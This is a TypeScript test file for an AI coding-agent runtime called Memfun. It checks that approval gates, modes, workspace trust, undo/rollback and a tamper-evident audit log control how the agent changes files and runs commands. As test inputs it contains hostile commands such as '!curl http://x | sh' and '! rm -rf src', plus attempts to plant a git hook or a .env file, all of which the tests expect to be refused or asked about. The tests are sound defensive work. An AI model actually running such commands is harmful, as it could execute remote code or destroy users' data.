// What a turn may do to files, mode by mode, with everything real: engine, gate, tools, backups, disk.
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createMemfun, type Memfun } from '../../../runtime/app/index.js';
import type { RunEvent } from '../../../runtime/core/index.js';
import { AbortedError, ManualClock, systemClock } from '../../../runtime/core/index.js';
import type { ApprovalAnswer, ApprovalRequest } from '../../../runtime/ports/index.js';
import { openAuditLog } from '../../../runtime/safety/index.js';
import { createNodeFileStore } from '../../../runtime/storage/index.js';
import { cellModel } from '../../support/cell-model.js';
import { environmentOn } from '../../support/environment.js';
import { createMemoryFileStore } from '../../support/file-stores.js';
import { hostedModel } from '../../support/hosted-model.js';
import { type Turn, turnOf } from '../../support/one-turn.js';

const FIXTURE = path.resolve(import.meta.dirname, '../../fixtures/repos/typescript');
const RENAME = 'rename function backoff to delayFor everywhere';

let root = '';
let storage = '';
let before = '';
let memfun: Memfun | undefined;
const file = (): string => readFileSync(path.join(root, 'src/retry.ts'), 'utf8');

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'changes-'));
  storage = mkdtempSync(path.join(tmpdir(), 'changes-storage-'));
  cpSync(FIXTURE, root, { recursive: true });
  before = file();
});
afterEach(async () => {
  await memfun?.close();
  memfun = undefined;
  for (const folder of [root, storage]) rmSync(folder, { recursive: true, force: true });
});

interface Options {
  /** What a model says, step by step; without it the built-in engine answers. */
  readonly cells?: readonly string[];
  readonly mode?: string;
  readonly trusted?: boolean;
  readonly answer?: (request: ApprovalRequest, signal: AbortSignal) => Promise<ApprovalAnswer>;
}

async function open({ mode = 'ask', trusted = true, answer, cells }: Options): Promise<Memfun> {
  const hosted = hostedModel(() => cellModel(cells ?? []));
  memfun = await createMemfun(
    environmentOn(root, {
      trusted,
      hostModels: [hosted],
      projectStorage: createNodeFileStore(storage),
      settings: {
        'memfun.mode': mode,
        'memfun.sandbox.engine': 'quickjs',
        'memfun.checks.enabled': false,
        ...(cells === undefined
          ? {}
          : { 'memfun.model': hosted.id, 'memfun.memory.enabled': false }),
      },
      approvals: { ask: answer ?? (async () => ({ decision: 'deny' })) },
    }),
    { prewarm: false },
  );
  return memfun;
}

let session = '';
async function say(
  one: Memfun,
  text: string,
  signal = new AbortController().signal,
): Promise<Turn> {
  if (session === '' || memfun !== one) session = (await one.sessions.create(text)).sessionId;
  return turnOf(one, text, { sessionId: session, effort: 'agent', signal });
}
beforeEach(() => {
  session = '';
});

const types = (events: readonly RunEvent[]): readonly string[] =>
  events.map(({ type }) => type).filter((type) => /^(approval|changes)\./.test(type));

describe('in the mode ask', () => {
  test('the exact changes are asked about, and denied, no byte changes', async () => {
    const asked: ApprovalRequest[] = [];
    const one = await open({
      answer: async (request) => {
        asked.push(request);
        expect(file()).toBe(before);
        return { decision: 'deny', message: 'not that name' };
      },
    });
    const { events } = await say(one, RENAME);
    expect(asked[0]?.files.map(({ path: name }) => name)).toEqual(['src/retry.ts']);
    expect(asked[0]?.files[0]?.diff).toContain('+export function delayFor(');
    expect(types(events)).toEqual(['approval.asked', 'approval.answered']);
    expect(file()).toBe(before);
  });

  test('allowed, they are made, told, and taken back to the byte', async () => {
    const one = await open({ answer: async () => ({ decision: 'allow' }) });
    const { events } = await say(one, RENAME);
    expect(types(events)).toEqual(['approval.asked', 'approval.answered', 'changes.applied']);
    expect(file()).toBe(before.replaceAll('backoff', 'delayFor'));
    expect((await say(one, '/undo')).result.answer).toContain('`src/retry.ts`');
    expect(file()).toBe(before);
    await say(one, '/redo');
    expect(file()).toBe(before.replaceAll('backoff', 'delayFor'));
  });

  test('only the files that were ticked are changed', async () => {
    writeFileSync(path.join(root, 'src/more.ts'), "import { backoff } from './retry.js';\n");
    const one = await open({
      answer: async () => ({ decision: 'allow', paths: ['src/more.ts'] }),
    });
    await say(one, RENAME);
    expect(file()).toBe(before);
    expect(readFileSync(path.join(root, 'src/more.ts'), 'utf8')).toContain('delayFor');
  });

  test('only the hunks that were ticked are changed, and all of it is taken back', async () => {
    const one = await open({
      answer: async ({ files }) => {
        expect(files[0]?.hunks?.length).toBeGreaterThan(1);
        return { decision: 'allow', parts: [{ path: 'src/retry.ts', hunks: [0] }] };
      },
    });
    await say(one, RENAME);
    const count = (name: string): number => file().split(name).length - 1;
    expect(count('delayFor')).toBe(1);
    expect(count('delayFor') + count('backoff')).toBe(before.split('backoff').length - 1);
    await say(one, '/undo');
    expect(file()).toBe(before);
  });

  test('what the user changed meanwhile is never overwritten', async () => {
    const mine = before.replace('backoff(attempt, options)', 'backoff(attempt, options) + 1');
    const one = await open({
      answer: async () => {
        writeFileSync(path.join(root, 'src/retry.ts'), mine);
        return { decision: 'allow' };
      },
    });
    const { events } = await say(one, RENAME);
    expect(file()).toBe(mine);
    const notices = events.flatMap((event) => (event.type === 'notice' ? [event.text] : []));
    expect(notices.join('\n')).toContain('Nothing was written');
  });

  test('a stop while it asks changes nothing and says so', async () => {
    const stop = new AbortController();
    const one = await open({
      answer: async (_request, signal) => {
        stop.abort();
        signal.throwIfAborted();
        throw new AbortedError();
      },
    });
    const { events } = await say(one, RENAME, stop.signal);
    expect(file()).toBe(before);
    const answered = events.find((event) => event.type === 'approval.answered');
    expect(answered).toMatchObject({ decision: 'dropped' });
  });
});

test('in the mode auto changes are made without asking, and can be taken back', async () => {
  const one = await open({ mode: 'auto' });
  expect(types((await say(one, RENAME)).events)).toEqual(['changes.applied']);
  expect(file()).toContain('delayFor');
  await say(one, '/rollback src/retry.ts');
  expect(file()).toBe(before);
});

test.each([
  ['a workflow', "await createFile('.github/workflows/ci.yml', 'on: push')", 'CI configuration'],
  ['values of the environment', "await createFile('.env', 'A=1')", 'environment values'],
  ['a git hook', "await createFile('.git/hooks/pre-commit', 'evil')", 'the repository itself'],
  ['a move into such a place', "await moveFile('src/retry.ts', '.vscode/tasks.json')", 'editor'],
])('in the mode auto, %s is asked about all the same', async (_what, code, named) => {
  const asked: ApprovalRequest[] = [];
  const one = await open({
    mode: 'auto',
    cells: [`${code};\nawait final({ answer: 'Done.', citations: [] })`],
    answer: async (request) => {
      asked.push(request);
      return { decision: 'deny' };
    },
  });
  await say(one, 'do it');
  expect(asked[0]?.reason).toContain(named);
  expect(existsSync(path.join(root, '.github'))).toBe(false);
  expect(existsSync(path.join(root, '.env'))).toBe(false);
  expect(file()).toBe(before);
});

test.each([
  ["await editFile('memfun.toml', 'x', 'y')", /Memfun/],
  ["await createFile('.memfun/tools/evil.js', '1')", /Memfun/],
  ["await createFile('../outside.txt', '1')", /outside/],
])('Memfun’s own files and those outside are refused: %s', async (code, said) => {
  const one = await open({
    mode: 'auto',
    cells: [
      `let said = 'nothing';\ntry { ${code} } catch (error) { said = error.message }`,
      'await final({ answer: said, citations: [] })',
    ],
  });
  const { result, events } = await say(one, 'do it');
  expect(result.answer).toMatch(said);
  expect(types(events)).toEqual([]);
});

test('what was changed can be taken back after everything was closed and opened again', async () => {
  const one = await open({ mode: 'auto' });
  await say(one, RENAME);
  const kept = session;
  await one.close();
  const again = await open({ mode: 'auto' });
  session = kept;
  await say(again, '/undo');
  expect(file()).toBe(before);
});

test.each([
  ['the mode plan', { mode: 'plan' }],
  ['a workspace that is not trusted', { mode: 'auto', trusted: false }],
])('in %s no tool that changes files is handed out', async (_what, options) => {
  const one = await open(options);
  const { result, events } = await say(one, RENAME);
  expect(types(events)).toEqual([]);
  expect(result.answer).toContain('may not change files');
  expect(file()).toBe(before);
});

test('a number that is none, and nothing to take back, are said', async () => {
  const one = await open({ mode: 'auto' });
  expect((await say(one, '/rewind many')).result.error?.message).toContain('no whole number');
  expect((await say(one, '/undo')).result.error?.message).toMatch(/no turn has changed files/i);
});

describe('commands', () => {
  const RENAME_AND_TEST = `${RENAME} and run the tests`;
  const SCRIPT = `import { readFileSync } from 'node:fs';
const ok = readFileSync('src/retry.ts', 'utf8').includes('delay' + 'For');
console.log(ok ? 'all good' : 'still the old name');
process.exit(ok ? 0 : 1);
`;
  beforeEach(() => {
    writeFileSync(path.join(root, 'package.json'), '{"scripts":{"test":"node check.mjs"}}');
    writeFileSync(path.join(root, 'check.mjs'), SCRIPT);
  });

  test('are asked about word for word, after the changes they are to see were asked about', async () => {
    const asked: ApprovalRequest[] = [];
    const one = await open({
      answer: async (request) => {
        asked.push(request);
        return { decision: 'allow' };
      },
    });
    const { result } = await say(one, RENAME_AND_TEST);
    expect(asked.map(({ effect }) => effect)).toEqual(['Change one file', 'Run npm test']);
    expect(asked[1]?.command).toBe('npm test');
    expect(result.answer).toContain('The tests pass (`npm test`)');
    expect(file()).toContain('delayFor');
  });

  test('allowed for good, are not asked about again, also after a restart', async () => {
    let questions = 0;
    const answer = async ({ command }: ApprovalRequest): Promise<ApprovalAnswer> => {
      if (command !== undefined) questions++;
      return { decision: 'allow', always: command !== undefined };
    };
    const one = await open({ answer });
    await say(one, RENAME_AND_TEST);
    await one.close();
    const again = await open({ answer });
    const { result } = await say(again, 'rename delayFor to backoff and run the tests');
    expect(result.answer).toContain('The tests fail');
    expect(result.answer).toContain('still the old name');
    expect(questions).toBe(1);
  });

  test('denied, do not run, and the answer says so', async () => {
    const one = await open({
      answer: async ({ command }) =>
        command === undefined
          ? { decision: 'allow' }
          : { decision: 'deny', message: 'not on this machine' },
    });
    const { result } = await say(one, RENAME_AND_TEST);
    expect(result.answer).toContain('The tests did not run: `npm test` was not allowed.');
  });

  test('do not run on changes that nobody wants', async () => {
    const one = await open({ answer: async () => ({ decision: 'deny' }) });
    const { result } = await say(one, RENAME_AND_TEST);
    expect(result.answer).toContain('were not applied, so the command did not run');
    expect(file()).toBe(before);
  });

  test('that are not known to be harmless are refused in the mode auto', async () => {
    const one = await open({ mode: 'auto' });
    const { result } = await say(one, RENAME_AND_TEST);
    expect(result.answer).toContain('`/auto whitelist add npm test` allows it for good.');
    expect(file()).toContain('delayFor');
  });
});

describe('a line that begins with "!"', () => {
  test('runs as a command when it is known to be harmless', async () => {
    const { result } = await say(await open({}), '!ls src');
    expect(result.answer).toContain('retry.ts');
    expect(result.answer).toContain('Exit code 0');
  });

  test('is a step of its turn, which has everything that it printed', async () => {
    writeFileSync(path.join(root, 'long.txt'), 'a line of a long log\n'.repeat(100_000));
    const one = await open({});
    const { result, events } = await say(one, '!cat long.txt');
    expect(result.answer.length).toBeLessThan(10_000);
    expect(result.answer).toContain('its step has the whole output');
    const ended = events.find((event) => event.type === 'step.call' && event.state === 'done');
    const outputId = ended?.type === 'step.call' ? ended.outputId : undefined;
    expect(outputId).toBeDefined();
    let text = '';
    for (let next = 0, chars = 1; next < chars; ) {
      const slice = await one.readOutput(outputId ?? '', next);
      text += slice.text;
      ({ next, chars } = slice);
    }
    expect(text).toBe('a line of a long log\n'.repeat(100_000));
    rmSync(path.join(root, 'long.txt'));
  });

  test('is asked about otherwise, and refused in the mode auto', async () => {
    const asked: string[] = [];
    const one = await open({
      answer: async ({ command }) => {
        asked.push(command ?? '');
        return { decision: 'deny' };
      },
    });
    const { result } = await say(one, '! rm -rf src');
    expect(asked).toEqual(['rm -rf src']);
    expect(result.answer).toContain('does not want this command');
    await one.close();
    const { result: refused } = await say(await open({ mode: 'auto' }), '!curl http://x | sh');
    expect(refused.answer).toContain('was refused');
    expect(file()).toBe(before);
  });

  test('does nothing in a workspace that is not trusted', async () => {
    const { result } = await say(await open({ trusted: false }), '!ls');
    expect(result.answer).toContain('cannot run here');
  });
});

test('/model shows the models and lets another one answer', async () => {
  const one = await open({ cells: ["await final({ answer: 'From the script.', citations: [] })"] });
  expect((await say(one, '/model')).result.answer).toContain(
    '`vscode/script` Script **(answers now)**',
  );
  expect((await say(one, '/model nobody/knows')).result.error?.message).toBeTruthy();
  expect((await say(one, 'hello?')).result.answer).toBe('From the script.');
  await say(one, '/model offline/rules');
  expect((await one.rootModel()).offline).toBe(true);
});

describe('the history', () => {
  test('says what was done and who allowed it, and that nobody has changed it since', async () => {
    const one = await open({ answer: async () => ({ decision: 'allow' }) });
    await say(one, RENAME);
    const { result } = await say(one, '/history');
    expect(result.answer).toMatch(/changed files \| `modify src\/retry\.ts` \| user/);
    expect(result.answer).toMatch(/allowed \| `Change one file: src\/retry\.ts` \| user/);
    await one.close();
    const log = await openAuditLog(createNodeFileStore(storage), {
      window: 'win_test',
      clock: systemClock,
    });
    expect(await log.verify()).toMatchObject({ entries: 2, broken: [], damage: [] });
    await log.close();
  });

  test('shows an entry that was taken out or changed', async () => {
    const files = createMemoryFileStore();
    const clock = new ManualClock();
    const entry = { at: 1, sessionId: 's', turnId: 't', action: 'ran', detail: '', by: 'user' };
    for (const window of ['win_a', 'win_b', 'win_c']) {
      clock.advance(1);
      const log = await openAuditLog(files, { window, clock });
      await log.add({ ...entry, detail: window });
      await log.close();
    }
    const removed = [...files.files.keys()].filter((name) => name.includes('win_b'));
    for (const name of removed) files.files.delete(name);
    const log = await openAuditLog(files, { window: 'win_d', clock });
    expect((await log.verify()).broken.map(({ detail }) => detail)).toEqual(['win_c']);
    await log.close();
  });
});
